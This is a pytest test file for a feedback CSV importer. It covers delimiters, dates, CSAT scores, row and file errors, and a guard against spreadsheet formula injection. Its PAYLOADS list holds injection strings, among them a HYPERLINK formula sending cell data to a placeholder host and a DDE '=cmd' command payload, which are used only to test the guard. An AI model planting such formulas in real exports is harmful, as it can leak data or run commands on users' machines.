"""Reading a feedback CSV: header, delimiters, dates, scores and per-line errors."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from engage.imports.feedback_csv import (
    AgreementRef,
    CsvFileError,
    CustomerRef,
    Directory,
    FeedbackRow,
    ParsedFeedback,
    parse_feedback_csv,
    sample_csv,
)
from engage.imports.values import TEXT_MAX, guard

TODAY = date(2025, 6, 30)
HEADER = "customer,agreement,date,text,score\n"
DIRECTORY = Directory(
    [
        CustomerRef(1, "Acme", "Acme"),
        CustomerRef(2, "Finance", "Acme / Finance"),
        CustomerRef(3, "Globex", "Globex"),
        CustomerRef(4, "=Evil", "=Evil"),
    ],
    [
        AgreementRef(10, "Acme SLA", 1),
        AgreementRef(11, "Finance SLA", 2),
        AgreementRef(12, "Globex SLA", 3),
        AgreementRef(13, "Twin", 3),
        AgreementRef(14, "Twin", 3),
        AgreementRef(15, "+Evil SLA", 4),
    ],
)


def parse(content: str | bytes, **kw: int) -> ParsedFeedback:
    data = content.encode() if isinstance(content, str) else content
    return parse_feedback_csv(data, DIRECTORY, TODAY, **kw)


def only_row(content: str) -> FeedbackRow:
    parsed = parse(content)
    assert parsed.errors == []
    [row] = parsed.rows
    return row


def only_error(line: str) -> str:
    parsed = parse(HEADER + line + "\n")
    assert parsed.rows == []
    [error] = parsed.errors
    assert error.row == 2
    return error.message


# -- valid rows -----------------------------------------------------------------


def test_reads_a_row_with_a_score() -> None:
    row = only_row(HEADER + "Acme,Acme SLA,2025-03-01,Slow again,2\n")
    assert row == FeedbackRow(
        2, 1, 10, datetime(2025, 3, 1, 12, tzinfo=UTC), "Slow again", 2.0
    )


@pytest.mark.parametrize(
    ("content", "score"),
    [
        # Case-insensitive headers in any order, a BOM, CRLF.
        (
            "\ufeffText,SCORE,Date,Agreement,Customer\r\nok,4,2025-03-01,Acme SLA,Acme\r\n",
            4.0,
        ),
        # Semicolons, a decimal comma, extra whitespace and case in the names.
        (
            "customer;agreement;date;text;score\n acme ; ACME  sla ;2025-03-01;ok;4,5\n",
            4.5,
        ),
        # Tabs; no score column at all.
        ("customer\tagreement\tdate\ttext\nAcme\tAcme SLA\t2025-03-01\tok\n", None),
        # An empty score.
        (HEADER + "Acme,Acme SLA,2025-03-01,ok,\n", None),
    ],
)
def test_headers_and_delimiters(content: str, score: float | None) -> None:
    row = only_row(content)
    assert (row.customer_id, row.agreement_id, row.text, row.score) == (
        1,
        10,
        "ok",
        score,
    )


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("2025-03-01", datetime(2025, 3, 1, 12, tzinfo=UTC)),
        ("2025-03-01T09:30:00Z", datetime(2025, 3, 1, 9, 30, tzinfo=UTC)),
        ("2025-03-01 09:30", datetime(2025, 3, 1, 9, 30, tzinfo=UTC)),
        ("2025-03-01T01:00:00+02:00", datetime(2025, 2, 28, 23, tzinfo=UTC)),
        ("2025-06-30", datetime(2025, 6, 30, 12, tzinfo=UTC)),
    ],
)
def test_dates_are_stored_as_aware_utc(cell: str, expected: datetime) -> None:
    row = only_row(HEADER + f"Acme,Acme SLA,{cell},ok,\n")
    assert row.received_at == expected
    assert row.received_at.tzinfo is UTC


@pytest.mark.parametrize("name", ["Finance", "Acme / Finance", "acme/finance"])
def test_departments_by_name_or_display_name(name: str) -> None:
    if name == "acme/finance":
        assert only_error(f"{name},Finance SLA,2025-03-01,ok,") == (
            "unknown customer 'acme/finance'"
        )
        return
    assert only_row(HEADER + f"{name},Finance SLA,2025-03-01,ok,\n").customer_id == 2


def test_agreement_by_id_and_text_kept_whole() -> None:
    content = HEADER + 'Globex,12,2025-03-01,"Line one,\r\n\r\nline two ",1.5\n'
    row = only_row(content)
    assert (row.agreement_id, row.text, row.score) == (12, "Line one,\n\nline two", 1.5)


def test_formula_guard_is_read_back_off() -> None:
    row = only_row(HEADER + "'=Evil,'+Evil SLA,2025-03-01,'=1+1,\n")
    assert (row.customer_id, row.agreement_id, row.text) == (4, 15, "=1+1")


# -- per-row errors -------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("Initech,Acme SLA,2025-03-01,ok,", "unknown customer 'Initech'"),
        (",Acme SLA,2025-03-01,ok,", "the customer is missing"),
        ("Acme,,2025-03-01,ok,", "the agreement is missing"),
        ("Acme,Globex SLA,2025-03-01,ok,", "unknown agreement 'Globex SLA' for Acme"),
        ("Acme,12,2025-03-01,ok,", "SLA 12 is not an SLA of Acme"),
        ("Acme,999,2025-03-01,ok,", "unknown agreement '999' for Acme"),
        ("Globex,Twin,2025-03-01,ok,", "use the id of one (13, 14)"),
        ("Acme,Acme SLA,,ok,", "the date is missing"),
        ("Acme,Acme SLA,01/03/2025,ok,", "'01/03/2025' is not a date: use YYYY-MM-DD"),
        ("Acme,Acme SLA,2025-02-30,ok,", "'2025-02-30' is not a valid date"),
        ("Acme,Acme SLA,2025-03-01T25:00,ok,", "is not a valid date"),
        ("Acme,Acme SLA,2025-07-01,ok,", "the date 2025-07-01 is in the future"),
        ("Acme,Acme SLA,1999-12-31,ok,", "the date 1999-12-31 is before 2000"),
        ("Acme,Acme SLA,2025-03-01,,", "the text is empty"),
        ("Acme,Acme SLA,2025-03-01,   ,", "the text is empty"),
        (
            f"Acme,Acme SLA,2025-03-01,{'x' * (TEXT_MAX + 1)},",
            f"the text has 5,001 characters, more than {TEXT_MAX:,}",
        ),
        (
            "Acme,Acme SLA,2025-03-01,ok,0",
            "the score 0 is not a CSAT score from 1 to 5",
        ),
        (
            "Acme,Acme SLA,2025-03-01,ok,6",
            "the score 6 is not a CSAT score from 1 to 5",
        ),
        ("Acme,Acme SLA,2025-03-01,ok,5.5", "not a CSAT score"),
        ("Acme,Acme SLA,2025-03-01,ok,good", "'good' is not a number"),
        ("Acme,Acme SLA,2025-03-01,ok,nan", "'nan' is not a number"),
        ("Acme,Acme SLA,2025-03-01,slow, again,", "put a text that contains a comma"),
        ("Acme,Acme SLA,2025-03-01,a\x00b,", "contains a NUL byte"),
    ],
)
def test_row_errors(line: str, message: str) -> None:
    assert message in only_error(line)


def test_every_problem_of_a_row_is_named() -> None:
    message = only_error("Initech,x,yesterday,,9")
    assert message.split("; ") == [
        "unknown customer 'Initech'",
        "'yesterday' is not a date: use YYYY-MM-DD or a date and time such as "
        "2025-03-01T14:30:00Z",
        "the text is empty",
        "the score 9 is not a CSAT score from 1 to 5",
    ]


def test_line_numbers_count_physical_lines() -> None:
    content = (
        HEADER
        + '\nAcme,Acme SLA,2025-03-01,"two\nlines",\n'  # blank line 2, row on 3-4
        + "Acme,Nope,2025-03-01,bad,\n"  # line 5
        + 'Acme,Acme SLA,2025-03-01,"a\r\nb\r\nc",9\n'  # lines 6-8
        + "Acme,Acme SLA,2025-03-01,fine,\n"  # line 9
    )
    parsed = parse(content)
    assert [r.line for r in parsed.rows] == [3, 9]
    assert [(e.row, e.values[1]) for e in parsed.errors] == [
        (5, "Nope"),
        (6, "Acme SLA"),
    ]
    assert parsed.total == 4


def test_ignored_columns_are_reported() -> None:
    content = "customer,agreement,date,text,ticket\nAcme,Acme SLA,2025-03-01,ok,T-1\n"
    parsed = parse(content)
    assert parsed.ignored_columns == ["ticket"]
    assert len(parsed.rows) == 1


# -- the whole file -------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty."),
        (b"\n \r\n", "The file is empty."),
        (HEADER.encode(), "The file has a header but no rows."),
        (
            b"customer,agreement,text\nAcme,Acme SLA,ok\n",
            "Missing: date. Found: customer, agreement, text.",
        ),
        (b"Acme,Acme SLA,2025-03-01,ok\n", "Missing: customer, agreement, date, text"),
        (b"customer,agreement,date,text,Text\n", "repeats the column(s) text"),
        (HEADER.encode("utf-16"), "The file is UTF-16"),
        (
            (HEADER + "Acme,Acme SLA,2025-03-01,Très lent,\n").encode("cp1252"),
            "The file is not UTF-8 text (line 2 has a byte",
        ),
        (
            (HEADER + 'Acme,Acme SLA,2025-03-01,"ok"x,\n').encode(),
            "Line 2 cannot be read as CSV",
        ),
    ],
)
def test_file_errors(content: bytes, message: str) -> None:
    with pytest.raises(CsvFileError) as raised:
        parse(content)
    assert message in str(raised.value)


def test_oversize_and_too_many_rows_are_refused() -> None:
    row = "Acme,Acme SLA,2025-03-01,ok,\n"
    with pytest.raises(CsvFileError, match="larger than 1 MiB"):
        parse(HEADER + row * (1024 * 1024 // len(row) + 1))
    with pytest.raises(CsvFileError, match="more than 2 rows"):
        parse(HEADER + row * 3, max_rows=2)
    assert len(parse(HEADER + row * 2, max_rows=2).rows) == 2


# -- import keys ----------------------------------------------------------------


def _row(**changes: object) -> FeedbackRow:
    values: dict[str, object] = {
        "line": 2,
        "customer_id": 1,
        "agreement_id": 10,
        "received_at": datetime(2025, 3, 1, 12, tzinfo=UTC),
        "text": "Slow again",
        "score": 2.0,
    }
    values.update(changes)
    return FeedbackRow(**values)  # type: ignore[arg-type]


def test_import_key_is_the_normalised_row() -> None:
    key = _row().import_key
    assert len(key) == 64
    assert int(key, 16) >= 0
    # Where the row stands, spacing and an integral score written as 2.0 do not count.
    assert _row(line=40, text=" Slow \n again ", score=2).import_key == key
    for other in (
        _row(customer_id=2),
        _row(agreement_id=11),
        _row(received_at=datetime(2025, 3, 1, 13, tzinfo=UTC)),
        _row(text="slow again"),
        _row(score=None),
        _row(score=2.5),
    ):
        assert other.import_key != key
    assert _row().csat_key not in (key, _row(score=None).import_key)
    assert len(_row().csat_key) == 64


# -- the sample (a CSV Engage writes: SECURITY.md case 3) ---------------------------

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+2",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\uff1d1",
    "=cmd|'/c calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_guard_neutralises_formulas(payload: str) -> None:
    assert guard(payload) == "'" + payload
    assert guard("Acme") == "Acme"
    assert guard("3") == "3"


def test_sample_is_guarded_and_imports_as_written() -> None:
    text = sample_csv([("=Evil", "+Evil SLA"), ("Acme", "Acme SLA")], TODAY)
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert records[0] == ["customer", "agreement", "date", "text", "score"]
    assert records[1][:2] == ["'=Evil", "'+Evil SLA"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in records for cell in r)
    parsed = parse(text)
    assert parsed.errors == []
    assert [(r.customer_id, r.agreement_id) for r in parsed.rows] == [(4, 15)] * 3 + [
        (1, 10)
    ] * 3
    assert [r.score for r in parsed.rows[:3]] == [5.0, 1.0, None]
